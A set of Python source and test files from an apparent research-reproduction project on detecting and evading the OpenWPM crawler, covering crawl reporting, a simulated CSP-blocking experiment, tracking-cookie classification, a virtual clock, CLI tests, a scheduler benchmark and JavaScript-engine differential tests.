        saved = (1 - stored / raw) * 100.0 if raw else 0.0
        push(f"  corpus bytes ........... {stored}"
             f"  (raw occurrence bytes: {raw}, saved {saved:.1f}%)")
        push(f"  analysis cache ......... "
             f"{int(corpus_stats['cache_entries'])} entries, "
             f"hit rate {corpus_stats['cache_hit_rate'] * 100.0:.1f}%"
             + ("" if corpus_stats["cache_enabled"]
                else "  [DISABLED via REPRO_CORPUS_CACHE=off]"))
        push("")

    bundle_stats = report.get("bundle")
    if bundle_stats is not None:
        push("Execution bundle")
        push(f"  path ................... {bundle_stats['path']}"
             f"  ({bundle_stats['kind']}, {bundle_stats['status']})")
        push(f"  sites recorded ......... "
             f"{int(bundle_stats['sites_recorded'])}"
             f"/{int(bundle_stats['sites_expected'])}"
             f"  (coverage {bundle_stats['coverage'] * 100.0:.1f}%)")
        push(f"  visits archived ........ {int(bundle_stats['visits'])}"
             f"  (exchanges: {int(bundle_stats['exchanges'])})")
        raw = int(bundle_stats["raw_bytes"])
        stored = int(bundle_stats["stored_bytes"])
        saved = (1 - stored / raw) * 100.0 if raw else 0.0
        push(f"  store .................. "
             f"{int(bundle_stats['stored_blobs'])} blobs, "
             f"{stored} bytes  (raw {raw}, saved {saved:.1f}%)")
        push("")

    journal_state = report.get("journal")
    if journal_state is not None:
        push("Flight recorder (journal)")
        push(f"  events ................. {journal_state['events']}"
             f"  (files: {journal_state['files']}, "
             f"epochs: {journal_state['epochs']})")
        counts = journal_state.get("event_counts") or {}
        lifecycle = ", ".join(
            f"{name.replace('visit_', '')}={counts[name]}"
            for name in ("visit_start", "visit_complete", "visit_crash",
                         "visit_given_up") if name in counts)
        if lifecycle:
            push(f"  visit lifecycle ........ {lifecycle}")
        push("")

    queue_state = report.get("queue")
    if queue_state is not None:
        push("Queue (persistent)")
        push("  " + ", ".join(
            f"{state}={count}"
            for state, count in sorted(queue_state["counts"].items())))
        push("  drained ................ "
             + ("yes" if queue_state["drained"] else "NO"))
        push("")

    if report["drop_reasons"]:
        push("Drop reasons (failed_visits)")
        for reason, count in report["drop_reasons"].items():
            push(f"  {reason} ... {count} site(s)")
        push("")

    if report["stages"]:
        push("Stage latency (virtual seconds)")
        push("  stage              count      total       mean")
        for stage in report["stages"]:
            push(f"  {stage['stage']:<18} {stage['count']:>5} "
                 f"{stage['total_seconds']:>10.3f} "
                 f"{stage['mean_seconds']:>10.4f}")
        push("")

    if report["reconciliation"]:
        push("Reconciliation (telemetry vs database)")
        for entry in report["reconciliation"]:
            mark = "OK " if entry["ok"] else "FAIL"
            push(f"  [{mark}] {entry['check']}: "
                 f"{int(entry['telemetry'])} vs {int(entry['database'])}")
        push("")
        push("BOOKS BALANCE" if report["reconciled"]
             else "BOOKS DO NOT BALANCE — crawl data is not trustworthy")
    return "\n".join(lines)

"""CSP blocking of instrumentation injection (paper Sec. 5.1.2).

The vanilla instrument enters the page by injecting an inline
``<script>`` element, which a ``script-src`` directive without
``'unsafe-inline'`` forbids. The page's own (allow-listed) scripts keep
running — un-instrumented — and a ``csp_report`` request documents the
failed injection (the row Table 8 tracks).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

from repro.browser.profiles import BrowserProfile, openwpm_profile
from repro.core.attacks.dispatcher import AttackOutcome, _make_extension
from repro.core.lab import visit_with_scripts

#: A policy that allows the site's own scripts but no inline injection.
BLOCKING_CSP = "script-src 'self'; report-uri /csp"

#: A CSP that explicitly allows inline scripts (control condition).
PERMISSIVE_CSP = "script-src 'self' 'unsafe-inline'; report-uri /csp"


@dataclass
class CSPAttackOutcome(AttackOutcome):
    csp_reports: int = 0
    inline_scripts_blocked: bool = False


def run_csp_blocking_attack(profile: Optional[BrowserProfile] = None,
                            stealth: bool = False,
                            csp_header: str = BLOCKING_CSP
                            ) -> CSPAttackOutcome:
    """Serve a page whose CSP forbids inline scripts; check recording.

    With the vanilla instrument the injection violates the CSP: no JS
    records are produced and a csp_report fires. The hardened instrument
    (exportFunction; no DOM injection) is untouched by the policy.

    Note the page's own probing activity is delivered as an *external*
    allow-listed script would be — here we emulate that by exempting
    lab-page inline scripts via the harness: the page body contains only
    markup, and probing happens through a same-origin external script.
    """
    extension = _make_extension(stealth)
    profile = profile or openwpm_profile("ubuntu", "regular")

    # The probing runs as a same-origin external script so that the CSP
    # only affects the extension's inline injection.
    from repro.core.lab import LAB_URL
    from repro.browser.browser import Browser
    from repro.net.http import HttpResponse
    from repro.net.network import FunctionServer, Network
    from repro.net.page import PageSpec, ScriptItem

    page = PageSpec(url=LAB_URL, csp_header=csp_header, items=[
        ScriptItem(src="/probe.js"),
    ])
    probe_source = "navigator.platform;\nscreen.width;\n"

    network = Network()

    def serve(request, client, net):
        if request.url.path == "/probe.js":
            return HttpResponse(content_type="text/javascript",
                                body=probe_source)
        if request.url.path == "/csp":
            return HttpResponse(status=204, content_type="text/plain")
        return HttpResponse(page=page, body=page.to_html())

    network.register_domain("lab.test", FunctionServer(serve))
    browser = Browser(profile, network, extension=extension)
    result = browser.visit(LAB_URL, wait=10)

    from repro.core.attacks.dispatcher import normalized_symbols

    symbols = extension.js_instrument.symbols_accessed()
    reports = [e for e in result.exchanges
               if e.request.resource_type == "csp_report"]
    probe_recorded = "navigator.platform" in normalized_symbols(
        extension.js_instrument)
    return CSPAttackOutcome(
        attack="csp-blocking",
        succeeded=not probe_recorded,
        recorded_symbols=symbols,
        csp_reports=len(reports),
        inline_scripts_blocked=bool(extension.js_instrument.failed_windows)
        if hasattr(extension.js_instrument, "failed_windows") else False,
        details=f"{len(reports)} csp_report request(s); "
                f"probe recorded: {probe_recorded}")

"""Tracking-cookie classification (paper Sec. 6.3.3, Table 10).

Implements the Englehardt et al. criteria as refined by Chen et al.:
a cookie may be used for tracking when

1. it is not a session cookie,
2. its value is >= 8 characters (quotes stripped),
3. it is always set (present in every run),
4. it is long-living (>= 3 months), and
5. its values differ significantly across runs under the
   Ratcliff-Obershelp similarity (``difflib.SequenceMatcher``).
"""

from __future__ import annotations

from difflib import SequenceMatcher
from itertools import combinations
from typing import Dict, List, Set, Tuple

from repro.openwpm.instruments.cookie_instrument import CookieRecord

#: Minimum lifetime: three months.
MIN_LIFETIME_SECONDS = 90 * 24 * 3600
MIN_VALUE_LENGTH = 8
#: Values more similar than this are considered "the same".
SIMILARITY_THRESHOLD = 0.66

CookieKey = Tuple[str, str, str]


def cookie_identity(record: CookieRecord) -> CookieKey:
    """A cookie's cross-run identity: (host, name, first-party site)."""
    return (record.host, record.name, record.first_party)


def ratcliff_obershelp(a: str, b: str) -> float:
    """Ratcliff-Obershelp similarity of two strings in [0, 1]."""
    return SequenceMatcher(None, a, b).ratio()


def classify_tracking_cookies(
        runs: List[List[CookieRecord]]) -> Set[CookieKey]:
    """Return the identities that satisfy all five criteria.

    *runs* holds one client's cookie records per repetition (r1..rN).
    """
    if not runs:
        return set()
    values_per_run: List[Dict[CookieKey, str]] = []
    eligible_per_run: List[Dict[CookieKey, bool]] = []
    for run in runs:
        values: Dict[CookieKey, str] = {}
        eligible: Dict[CookieKey, bool] = {}
        for record in run:
            key = cookie_identity(record)
            value = record.value.strip("\"'")
            values[key] = value
            lifetime_ok = (record.lifetime is not None
                           and record.lifetime >= MIN_LIFETIME_SECONDS)
            eligible[key] = (not record.is_session
                             and len(value) >= MIN_VALUE_LENGTH
                             and lifetime_ok)
        values_per_run.append(values)
        eligible_per_run.append(eligible)

    # Criterion 3: always set.
    always_set = set(values_per_run[0])
    for values in values_per_run[1:]:
        always_set &= set(values)

    tracking: Set[CookieKey] = set()
    for key in always_set:
        if not all(eligible[key] for eligible in eligible_per_run):
            continue
        observed = [values[key] for values in values_per_run]
        if len(observed) >= 2:
            similar = any(
                ratcliff_obershelp(a, b) >= SIMILARITY_THRESHOLD
                for a, b in combinations(observed, 2))
            if similar:
                continue
        tracking.add(key)
    return tracking


def count_tracking_per_run(runs: List[List[CookieRecord]],
                           tracking: Set[CookieKey]) -> List[int]:
    """How many stored cookies per run belong to tracking identities."""
    counts = []
    for run in runs:
        seen = {cookie_identity(record) for record in run}
        counts.append(len(seen & tracking))
    return counts

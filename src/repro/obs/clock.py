"""Monotonic clock shims for the telemetry layer.

Telemetry must be deterministic under fixed seeds (ROADMAP: reproducible
experiments), so nothing in ``repro.obs`` may read the wall clock by
default. :class:`VirtualClock` is a deterministic monotonic clock: every
reading advances it by a fixed tick, so span durations depend only on
the code path executed, never on host speed. Integrations that track
simulated time (the browser's virtual event loop) can :meth:`advance`
it by known amounts.

:class:`WallClock` wraps ``time.monotonic`` for the one place real time
matters — the telemetry-overhead benchmark guard.
"""

from __future__ import annotations

import threading
import time


class VirtualClock:
    """Deterministic monotonic clock.

    ``now()`` advances the clock by ``tick`` before returning, so two
    successive readings are always a fixed distance apart and durations
    measured between readings are exactly reproducible. Mutations are
    lock-protected: worker threads share one clock, and ``+=`` on a
    float attribute is not atomic.
    """

    def __init__(self, start: float = 0.0, tick: float = 0.001) -> None:
        self._now = float(start)
        self._tick = float(tick)
        self._lock = threading.Lock()

    def now(self) -> float:
        with self._lock:
            self._now += self._tick
            return self._now

    def advance(self, seconds: float) -> None:
        """Move the clock forward by a known (virtual) duration."""
        if seconds > 0:
            with self._lock:
                self._now += seconds

    def peek(self) -> float:
        """Current reading without advancing.

        Lock-free: a single attribute load of a float is atomic under
        the GIL, and peek() sits on the flight recorder's per-event
        hot path.
        """
        return self._now


class WallClock:
    """Real monotonic time, for overhead measurements only."""

    def now(self) -> float:
        return time.monotonic()

    def peek(self) -> float:
        """Current reading; real time never needs a virtual advance."""
        return time.monotonic()

    def advance(self, seconds: float) -> None:  # pragma: no cover
        pass

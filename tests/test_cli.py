"""Tests for the command-line interface."""

import json

import pytest

from repro.cli import build_parser, main


def run_cli(capsys, argv):
    code = main(argv)
    captured = capsys.readouterr()
    return code, json.loads(captured.out)


class TestParser:
    def test_requires_command(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args([])

    def test_audit_defaults(self):
        args = build_parser().parse_args(["audit"])
        assert args.os == "ubuntu" and args.mode == "regular"

    def test_scan_arguments(self):
        args = build_parser().parse_args(
            ["scan", "--sites", "100", "--front-only"])
        assert args.sites == 100 and args.front_only


class TestCommands:
    def test_survey(self, capsys):
        code, out = run_cli(capsys, ["survey"])
        assert code == 0
        assert out["table1"]["total"] == 72
        assert out["table14"]["outdated_days"] == 540

    def test_audit_regular(self, capsys):
        code, out = run_cli(capsys, ["audit", "--mode", "regular"])
        assert code == 0
        assert out["detected"] is True
        assert out["tampered_properties"] == 252

    def test_audit_without_instrument(self, capsys):
        code, out = run_cli(capsys, ["audit", "--no-instrument"])
        assert code == 0
        assert out["tampered_properties"] == 0
        assert out["detected"] is True  # webdriver still gives it away

    def test_scan_small(self, capsys):
        code, out = run_cli(capsys, ["scan", "--sites", "40",
                                     "--front-only", "--seed", "3"])
        assert code == 0
        assert out["sites"] == 40
        assert "table5" in out and "table11" in out

    def test_attack(self, capsys):
        code, out = run_cli(capsys, ["attack"])
        assert code == 0
        assert out["block-recording"]["vs_wpm"] is True
        assert out["block-recording"]["vs_wpm_hide"] is False
        assert out["sql-injection"]["database_corrupted"] is False

    def test_compare_tiny(self, capsys):
        code, out = run_cli(capsys, ["compare", "--sites", "60",
                                     "--repetitions", "1"])
        assert code == 0
        assert out["detector_sites"] > 0
        assert 0.0 <= out["cookie_wilcoxon_p"] <= 1.0

"""Crawl scheduler: throughput + overhead of the queue machinery.

Two properties worth guarding:

* routing a crawl through the persistent queue and worker pool must be
  close to free — a 1-worker scheduled crawl does exactly the work of
  the sequential path (byte-identical database) plus queue bookkeeping,
  so the wall-clock gap *is* the scheduler's overhead;
* the multi-worker path must drain the same workload completely. The
  simulated browsers are pure Python, so threads contend on the GIL and
  wall-clock speedups stay modest; the number reported here is the
  queue's coordination cost, not a parallel-browser speedup claim.
"""

import gc
import time

from conftest import BENCH_SEED, report

SCHED_SITES = 1000
OVERHEAD_LIMIT_PCT = 25.0


def _timed_crawl(mode, site_count):
    from repro.obs.runner import run_telemetry_crawl
    from repro.obs.telemetry import Telemetry

    gc.collect()
    start = time.perf_counter()
    result = run_telemetry_crawl(
        site_count=site_count, seed=BENCH_SEED, crash_probability=0.05,
        browsers=4, telemetry=Telemetry.disabled(),
        workers=None if mode == "sequential" else mode)
    elapsed = time.perf_counter() - start
    if mode != "sequential":
        assert result.report.drained, result.report
    visits = result.storage.query(
        "SELECT COUNT(*) AS n FROM site_visits")[0]["n"]
    result.close()
    return elapsed, visits


def measure_scheduler_throughput(site_count=SCHED_SITES, rounds=3):
    modes = ("sequential", 1, 4)
    best = {mode: float("inf") for mode in modes}
    visits = {}
    for mode in modes:  # warm-up, discarded
        _timed_crawl(mode, site_count)
    for _ in range(rounds):
        for mode in modes:
            elapsed, seen = _timed_crawl(mode, site_count)
            best[mode] = min(best[mode], elapsed)
            visits[mode] = seen
    overhead = (best[1] - best["sequential"]) / best["sequential"] * 100.0
    return {"sites": site_count, "best": best, "visits": visits,
            "overhead_pct": overhead}


def test_benchmark_scheduler_throughput(benchmark):
    result = benchmark.pedantic(
        lambda: measure_scheduler_throughput(rounds=3),
        rounds=1, iterations=1)

    best, sites = result["best"], result["sites"]
    lines = [
        f"({sites}-site lab crawl, crash injection 5%, best of 3;",
        " workers are threads over simulated browsers, so this measures",
        " queue coordination cost, not parallel-browser speedup.",
        " The sequential path retains every VisitResult for its caller",
        " while scheduled workers discard them, so negative overhead",
        " means queue bookkeeping costs less than that retention.)",
        "",
        "| mode | seconds | sites/s |",
        "|---|---|---|",
    ]
    for mode in ("sequential", 1, 4):
        label = "sequential (no queue)" if mode == "sequential" \
            else f"scheduled, {mode} worker(s)"
        lines.append(f"| {label} | {best[mode]:.3f} "
                     f"| {sites / best[mode]:.0f} |")
    lines.append(f"| queue overhead (1 worker vs sequential) "
                 f"| {result['overhead_pct']:+.2f}% | |")
    report("crawl_scheduler", "Crawl scheduler - throughput", lines)

    assert all(count >= sites for count in result["visits"].values()), \
        result["visits"]
    assert result["overhead_pct"] < OVERHEAD_LIMIT_PCT, result

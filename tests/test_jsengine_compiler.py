"""Differential battery: closure-compiled backend vs the tree-walker.

Every scenario runs the same source under ``REPRO_JS_COMPILE`` on and
off in fresh realms and asserts the two backends are observably
identical: final value, console output, thrown error (type + message),
**exact operation count** charged against the execution budget, and the
order of engine access-hook events (the stream the JS instrument
records). The op-count pin matters because ``ExecutionBudgetExceeded``
must fire at the same boundary in both backends, and the stack-trace
pins matter because ``Error.stack`` is the channel the paper's
detectors use to spot OpenWPM's instrumentation.
"""

import random

import pytest

from repro.jsengine.builtins import Realm
from repro.jsengine.interpreter import (
    ExecutionBudgetExceeded,
    Interpreter,
    ast_cache_stats,
    clear_ast_cache,
    compile_enabled,
    export_cache_metrics,
    set_compile_enabled,
    source_digest,
    warm_compile_cache,
)
from repro.jsobject.errors import JSError

URL = "differential.js"


def _observe(source, budget=200_000, hook=False):
    """Run *source* in a fresh realm; capture everything observable."""
    realm = Realm(random.Random(42))
    interp = Interpreter(realm=realm, budget=budget)
    events = []
    if hook:
        interp.access_hook = (
            lambda kind, obj, name, payload: events.append(
                (kind, name,
                 len(payload) if isinstance(payload, list) else None)))
    value, error = None, None
    try:
        value = interp.run(source, URL)
    except ExecutionBudgetExceeded as exc:
        error = ("budget", str(exc))
    except JSError as exc:
        error = ("js", interp.to_string(exc.value))
    if not isinstance(value, (float, str, bool, type(None))):
        value = type(value).__name__
    return {"value": value, "console": list(realm.console_log),
            "ops": interp.ops_used, "error": error, "events": events}


def run_both(source, budget=200_000, hook=False):
    observed = {}
    for enabled in (True, False):
        previous = set_compile_enabled(enabled)
        try:
            clear_ast_cache()
            observed[enabled] = _observe(source, budget, hook)
        finally:
            set_compile_enabled(previous)
    assert observed[True] == observed[False], (
        f"backend divergence on:\n{source}")
    return observed[True]


# ---------------------------------------------------------------------------
# Language coverage
# ---------------------------------------------------------------------------

SNIPPETS = [
    # arithmetic, coercion, numeric edge cases
    "1 + 2 * 3 - 4 / 2;",
    "'a' + 1 + 2;",
    "1/0 + ' ' + (-1/0) + ' ' + (0/0);",
    "console.log(5 % 3, -5 % 3, 5 % 0, 1e9 < NaN, NaN <= NaN); 'done';",
    "console.log(1 == '1', 1 === '1', null == undefined, "
    "null === undefined); 0;",
    "console.log(7 & 3, 7 | 8, 7 ^ 1, ~7, 1 << 4, -16 >> 2); 0;",
    # loops + break/continue
    """
    var t = 0;
    for (var i = 0; i < 50; i++) { if (i % 3 === 0) continue; t += i; }
    var j = 0;
    while (true) { j++; if (j > 5) break; }
    var k = 0;
    do { k += 2; } while (k < 9);
    console.log(t, j, k); t + j + k;
    """,
    # closures
    """
    function counter() { var n = 0; return function () { return ++n; }; }
    var c1 = counter(), c2 = counter();
    c1(); c1(); c2();
    console.log(c1(), c2()); 0;
    """,
    # hoisting quirks: shallow hoist, conditional var, fn re-declaration
    """
    console.log(typeof hoisted, typeof notHoisted);
    function hoisted() {}
    if (false) { var notHoisted = 1; }
    var x = 1;
    function f(flag) { if (flag) { var x = 2; } return x; }
    console.log(f(true), f(false), x); 0;
    """,
    # catch param hoists to nearest function scope (engine quirk)
    """
    function g() {
      try { throw new Error('inner'); } catch (e) { var seen = e.message; }
      return seen + '|' + typeof e;
    }
    console.log(g()); 0;
    """,
    # try/catch/finally incl. finally-without-catch swallow quirk
    """
    var order = [];
    try { order.push('t'); throw new Error('x'); }
    catch (e) { order.push('c:' + e.message); }
    finally { order.push('f'); }
    try { throw new Error('swallowed'); } finally { order.push('f2'); }
    console.log(order.join(',')); 0;
    """,
    # switch: fallthrough, default in the middle, let in cases
    """
    function pick(v) {
      var out = [];
      switch (v) {
        case 1: out.push('one');
        default: out.push('dflt');
        case 2: out.push('two'); break;
        case 3: out.push('three');
      }
      return out.join('+');
    }
    console.log(pick(1), pick(2), pick(3), pick(9)); 0;
    """,
    # for-in / for-of
    """
    var obj = {a: 1, b: 2, c: 3}, keys = [], vals = [];
    for (var k in obj) { keys.push(k); }
    for (var v of [10, 20, 30]) { vals.push(v); }
    console.log(keys.join(''), vals.join('-')); 0;
    """,
    # object literals: getters/setters, methods, string/number keys
    """
    var hits = [];
    var o = {
      n: 1, 'str key': 2, 7: 'seven',
      get twice() { hits.push('get'); return this.n * 2; },
      set twice(v) { hits.push('set'); this.n = v; },
      method() { return this.n + 100; }
    };
    o.twice = 21;
    console.log(o.twice, o['str key'], o[7], o.method(),
                hits.join(',')); 0;
    """,
    # prototypes, new, instanceof, in, delete
    """
    function Animal(name) { this.name = name; }
    Animal.prototype.speak = function () { return this.name + '!'; };
    var a = new Animal('rex');
    console.log(a.speak(), a instanceof Animal, 'name' in a,
                delete a.name, 'name' in a, delete (0, 1)); 0;
    """,
    # typeof on undeclared names never throws
    "console.log(typeof nope, typeof (void 0), typeof null, "
    "typeof function(){}); 0;",
    # implicit globals cross function boundaries
    """
    function setit() { leaked = 41; }
    setit();
    leaked++;
    console.log(leaked, typeof leaked); 0;
    """,
    # update/compound assignment incl. member targets + coercion
    """
    var n = '5';
    n++;
    var o = {v: '3'};
    o.v += 2;
    var arr = [1, 2];
    arr[0] *= 10;
    console.log(n, o.v, arr[0]); 0;
    """,
    # compound member assignment re-evaluates the object (engine quirk)
    """
    var calls = 0, box = {x: 1};
    function get() { calls++; return box; }
    get().x += 5;
    console.log(box.x, calls); 0;
    """,
    # const semantics incl. the for-in const quirk
    """
    var out = [];
    const C = 1;
    try { C = 2; } catch (e) { out.push('const:' + (typeof e)); }
    try { for (const q in {a: 1, b: 2}) { out.push(q); } }
    catch (e) { out.push('loop:' + (typeof e)); }
    console.log(out.join(',')); 0;
    """,
    # arguments object + arrow this
    """
    function spread() { return arguments.length + ':' + arguments[1]; }
    var obj = {
      tag: 'T',
      run: function () { var arrow = () => this.tag; return arrow(); }
    };
    console.log(spread(1, 2, 3), obj.run()); 0;
    """,
    # sequence, conditional, logical short-circuit with side effects
    """
    var log = [];
    function side(x) { log.push(x); return x; }
    var r = (side(1), side(2), 3);
    var s = side(0) || side(4);
    var t = side(5) && side(6);
    var u = side(7) ? side(8) : side(9);
    console.log(r, s, t, u, log.join('')); 0;
    """,
    # recursion
    """
    function fib(n) { return n < 2 ? n : fib(n - 1) + fib(n - 2); }
    fib(12);
    """,
    # string/array builtins through the primitive dispatch fast path
    """
    var s = 'Hello, Frankenstein';
    console.log(s.length, s.charCodeAt(0), s.indexOf('Frank'),
                s.slice(0, 5), s.toUpperCase(),
                [3, 1, 2].sort().join(''), [1, 2, 3].map(function (x) {
                  return x * 2; }).join(',')); 0;
    """,
    # FunctionDeclaration re-execution yields fresh function objects
    """
    var fns = [];
    for (var i = 0; i < 2; i++) {
      function tick() { return i; }
      fns.push(tick);
    }
    console.log(fns[0] === fns[1]); 0;
    """,
    # nested function compiled inside program + block-scoped let
    """
    let total = 0;
    { let total2 = 5; total += total2; }
    function adder(a) { return function (b) { return a + b; }; }
    console.log(adder(2)(3), total); 0;
    """,
]


@pytest.mark.parametrize("source", SNIPPETS,
                         ids=[f"snippet{i}" for i in range(len(SNIPPETS))])
def test_backends_agree(source):
    run_both(source)


# ---------------------------------------------------------------------------
# Thrown errors and stack traces
# ---------------------------------------------------------------------------

def test_stack_traces_identical():
    result = run_both("""
function inner() { throw new Error('boom'); }
function outer() { inner(); }
try { outer(); } catch (e) { console.log(e.stack); }
'after';
""")
    # Line/column parity: the stack is built from the frame positions
    # the per-node ticks maintain, so any tick divergence shows here.
    assert "inner" in result["console"][0]
    assert result["value"] == "after"


def test_uncaught_error_identical():
    result = run_both("null.property;")
    assert result["error"] is not None and result["error"][0] == "js"


def test_too_much_recursion_identical():
    result = run_both("""
function r() { return r(); }
try { r(); } catch (e) { console.log('caught:' + e.message); }
'ok';
""")
    assert "recursion" in result["console"][0]


def test_access_hook_order_identical():
    result = run_both("""
var o = {x: 1, probe: function () { return this.x; }};
o.x;
o.x = 2;
o.probe();
o['x']++;
o.x += 3;
""", hook=True)
    assert result["events"], "hook never fired"
    kinds = [kind for kind, _, _ in result["events"]]
    assert "get" in kinds and "set" in kinds and "call" in kinds


# ---------------------------------------------------------------------------
# Budget boundary: ExecutionBudgetExceeded at the exact same op count
# ---------------------------------------------------------------------------

BOUNDARY_SRC = """
var total = 0;
for (var i = 0; i < 25; i++) { total += i * 2; }
total;
"""


def test_budget_boundary_identical_across_backends():
    ops = run_both(BOUNDARY_SRC)["ops"]
    assert ops > 50
    for enabled in (True, False):
        previous = set_compile_enabled(enabled)
        try:
            clear_ast_cache()
            # Exactly enough budget: completes.
            assert _observe(BOUNDARY_SRC, budget=ops)["error"] is None
            # One op short: the countdown must trip, in both backends.
            short = _observe(BOUNDARY_SRC, budget=ops - 1)
            assert short["error"] is not None
            assert short["error"][0] == "budget"
        finally:
            set_compile_enabled(previous)


def test_budget_error_propagates_through_catch():
    # The budget error is not a JSError: user catch blocks must not
    # swallow it in either backend.
    source = """
try { while (true) {} } catch (e) { 'swallowed'; }
"""
    for enabled in (True, False):
        previous = set_compile_enabled(enabled)
        try:
            clear_ast_cache()
            assert _observe(source, budget=500)["error"][0] == "budget"
        finally:
            set_compile_enabled(previous)


# ---------------------------------------------------------------------------
# Hash-keyed AST LRU cache
# ---------------------------------------------------------------------------

def test_ast_cache_counts_hits_and_misses():
    clear_ast_cache()
    base = ast_cache_stats()
    assert base["entries"] == 0
    realm = Realm(random.Random(1))
    interp = Interpreter(realm=realm, budget=10_000)
    interp.run("1 + 1;", URL)
    interp.run("1 + 1;", URL)
    interp.run("2 + 2;", URL)
    stats = ast_cache_stats()
    assert stats["misses"] == 2
    assert stats["hits"] == 1
    assert stats["entries"] == 2


def test_ast_cache_keyed_by_content_hash():
    clear_ast_cache()
    digest = warm_compile_cache("var q = 9; q;")
    assert digest == source_digest("var q = 9; q;")
    # Same content from a "different" call site is a hit, not a reparse.
    realm = Realm(random.Random(2))
    Interpreter(realm=realm, budget=10_000).run("var q = 9; q;", "other.js")
    assert ast_cache_stats()["hits"] == 1


def test_ast_cache_evicts_lru():
    from repro.jsengine.interpreter import _AST_CACHE

    clear_ast_cache()
    max_entries = _AST_CACHE._max
    try:
        _AST_CACHE._max = 2
        warm_compile_cache("1;")
        warm_compile_cache("2;")
        warm_compile_cache("1;")      # refresh: "1;" is now most recent
        warm_compile_cache("3;")      # evicts "2;"
        stats = ast_cache_stats()
        assert stats["evictions"] == 1
        assert stats["entries"] == 2
        warm_compile_cache("1;")      # still cached
        assert ast_cache_stats()["hits"] == 2
        warm_compile_cache("2;")      # was evicted: a miss
        assert ast_cache_stats()["misses"] == 4
    finally:
        _AST_CACHE._max = max_entries
        clear_ast_cache()


def test_cache_metrics_exported_through_registry():
    from repro.obs.metrics import MetricsRegistry

    clear_ast_cache()
    warm_compile_cache("var metric = 1;")
    warm_compile_cache("var metric = 1;")
    registry = MetricsRegistry()
    export_cache_metrics(registry)
    snapshot = {m["name"]: m for m in registry.snapshot()}
    assert snapshot["jsengine_ast_cache_misses"]["value"] == 1.0
    assert snapshot["jsengine_ast_cache_hits"]["value"] == 1.0
    assert snapshot["jsengine_ast_cache_entries"]["value"] == 1.0


def test_compiled_unit_attached_to_cached_program():
    previous = set_compile_enabled(True)
    try:
        clear_ast_cache()
        from repro.jsengine.interpreter import parse_cached

        warm_compile_cache("var attach = 1; attach;")
        program = parse_cached("var attach = 1; attach;")
        assert getattr(program, "_compiled_unit", None) is not None
    finally:
        set_compile_enabled(previous)


def test_escape_hatch_reads_environment(monkeypatch):
    monkeypatch.setenv("REPRO_JS_COMPILE", "off")
    previous = set_compile_enabled(None)   # re-read env
    try:
        assert compile_enabled() is False
    finally:
        set_compile_enabled(previous)
    monkeypatch.setenv("REPRO_JS_COMPILE", "on")
    previous = set_compile_enabled(None)
    try:
        assert compile_enabled() is True
    finally:
        set_compile_enabled(previous)


# ---------------------------------------------------------------------------
# Fuzz-ish sweep: seeded random composites over the covered grammar
# ---------------------------------------------------------------------------

def _random_program(rng):
    parts = ["var acc = 0;"]
    for index in range(rng.randint(2, 5)):
        kind = rng.randint(0, 3)
        if kind == 0:
            parts.append(
                f"for (var i{index} = 0; i{index} < {rng.randint(1, 9)}; "
                f"i{index}++) {{ acc += i{index} * {rng.randint(1, 5)}; }}")
        elif kind == 1:
            parts.append(
                f"function fn{index}(a) {{ return a % {rng.randint(2, 7)} "
                f"=== 0 ? a : -a; }} acc += fn{index}({rng.randint(0, 50)});")
        elif kind == 2:
            parts.append(
                f"var o{index} = {{v: {rng.randint(0, 9)}}}; "
                f"o{index}.v += {rng.randint(1, 4)}; acc += o{index}.v;")
        else:
            parts.append(
                f"try {{ if (acc > {rng.randint(0, 40)}) "
                f"throw new Error('e{index}'); acc += 1; }} "
                f"catch (e) {{ acc -= 1; }}")
    parts.append("acc;")
    return "\n".join(parts)


@pytest.mark.parametrize("seed", range(12))
def test_random_programs_agree(seed):
    run_both(_random_program(random.Random(seed)))

"""Unit tests for smaller pieces: page specs, event loop, site configs,
symbol normalisation, shared-prototype wrapping semantics."""

import pytest

from repro.net.page import (
    IFrameItem,
    LinkItem,
    PageSpec,
    ResourceItem,
    ScriptItem,
)


class TestPageSpec:
    def _page(self):
        return PageSpec(url="https://x.test/", title="t", items=[
            ScriptItem(src="/a.js"),
            ScriptItem(source="var x = 1;"),
            IFrameItem(src="/f.html"),
            ResourceItem(url="/img.png"),
            ResourceItem(url="/style.css", resource_type="stylesheet"),
            LinkItem(href="/p/1.html", text="one"),
        ])

    def test_accessors(self):
        page = self._page()
        assert len(page.scripts()) == 2
        assert len(page.iframes()) == 1
        assert len(page.resources()) == 2
        assert page.links() == ["/p/1.html"]

    def test_to_html_roundtrips_through_fragment_parser(self):
        from repro.dom.html import parse_html_fragment

        html = self._page().to_html()
        tags = [t.tag for t in parse_html_fragment(html)]
        assert tags.count("script") == 2
        assert "iframe" in tags
        assert "img" in tags
        assert "a" in tags

    def test_inline_script_body_in_html(self):
        html = self._page().to_html()
        assert "var x = 1;" in html

    def test_stylesheet_rendered_as_link(self):
        html = self._page().to_html()
        assert 'rel="stylesheet"' in html


class TestEventLoop:
    def _browser(self):
        from repro.browser import Browser, openwpm_profile
        from repro.core.lab import make_lab_network

        return Browser(openwpm_profile("ubuntu", "regular"),
                       make_lab_network())

    def test_tasks_fire_in_time_order(self):
        browser = self._browser()
        order = []
        browser.schedule(lambda: order.append("late"), delay=2.0)
        browser.schedule(lambda: order.append("early"), delay=1.0)
        browser.run_event_loop(until=5.0)
        assert order == ["early", "late"]

    def test_equal_deadline_preserves_insertion_order(self):
        browser = self._browser()
        order = []
        browser.schedule(lambda: order.append(1), delay=1.0)
        browser.schedule(lambda: order.append(2), delay=1.0)
        browser.run_event_loop(until=5.0)
        assert order == [1, 2]

    def test_cancel(self):
        browser = self._browser()
        fired = []
        timer_id = browser.schedule(lambda: fired.append(1), delay=1.0)
        browser.cancel_scheduled(timer_id)
        browser.run_event_loop(until=5.0)
        assert fired == []

    def test_virtual_time_advances(self):
        browser = self._browser()
        browser.run_event_loop(until=60.0)
        assert browser.current_time == 60.0

    def test_tasks_beyond_horizon_stay_queued(self):
        browser = self._browser()
        fired = []
        browser.schedule(lambda: fired.append(1), delay=10.0)
        browser.run_event_loop(until=5.0)
        assert fired == []
        browser.run_event_loop(until=15.0)
        assert fired == [1]


class TestSiteConfigChannels:
    def _config(self, **kwargs):
        from repro.web.sitegen import SiteConfig
        from repro.web.tranco import TrancoSite

        site = TrancoSite(rank=1, domain="x.test", categories=("News",))
        return SiteConfig(site=site, **kwargs)

    def test_plain_front_detector_both_channels(self):
        config = self._config(front_detector_form="plain")
        assert config.detector_channels("front") == (True, True)

    def test_lazy_static_only(self):
        config = self._config(front_detector_form="lazy")
